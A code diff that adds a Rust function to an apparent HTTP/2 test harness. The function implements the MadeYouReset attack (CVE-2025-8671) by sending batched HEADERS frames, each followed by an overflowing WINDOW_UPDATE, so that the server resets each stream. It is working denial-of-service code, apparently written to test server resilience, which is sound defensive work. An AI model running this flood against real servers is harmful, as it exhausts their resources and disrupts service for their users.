@@ -574,6 +574,46 @@ pub async fn reset_after_accept(
     Ok((resets, goaway))
 }
 
+/// MadeYouReset (CVE-2025-8671): streams the client does not reset itself but makes the server
+/// reset, here with a WINDOW_UPDATE that overflows the stream's send window (a stream error,
+/// FLOW_CONTROL_ERROR), in batches, up to `streams`. How the connection ended and how many streams were written.
+pub async fn made_you_reset(
+    h: &Harness,
+    source: IpAddr,
+    streams: u32,
+) -> std::io::Result<(Closed, u32)> {
+    const BATCH: u32 = 16;
+    let started = Instant::now();
+    let tls = h.tls(source, b"h2").await?;
+    let (reader, mut writer) = tokio::io::split(tls);
+    let reading = tokio::spawn(read_until_closed(reader, started));
+    let mut hello = H2_PREFACE.to_vec();
+    hello.extend(frame(0x4, 0, 0, &[]));
+    writer.write_all(&hello).await?;
+    let mut block = vec![0x82, 0x87, 0x04, SYNC.len() as u8];
+    block.extend_from_slice(SYNC.as_bytes());
+    block.extend([0x01, NAME.len() as u8]);
+    block.extend_from_slice(NAME.as_bytes());
+    let mut written = 0;
+    while written < streams && !reading.is_finished() {
+        let mut batch = Vec::new();
+        for _ in 0..BATCH {
+            let id = 1 + 2 * written;
+            batch.extend(frame(0x1, 0x5, id, &block));
+            batch.extend(frame(0x8, 0, id, &0x7fff_ffffu32.to_be_bytes()));
+            written += 1;
+        }
+        let write = tokio::time::timeout(Duration::from_secs(5), writer.write_all(&batch));
+        if !matches!(write.await, Ok(Ok(()))) {
+            break;
+        }
+        // Paced, so each batch is read (and reset) before the next arrives.
+        tokio::time::sleep(Duration::from_millis(5)).await;
+    }
+    drop(writer);
+    Ok((reading.await.unwrap(), written))
+}
+
 /// A header literal (HPACK, "without indexing", new name), valid so the flood is not refused
 /// merely for bad encoding.
 fn hpack_literal(name: &str, value_len: usize) -> Vec<u8> {
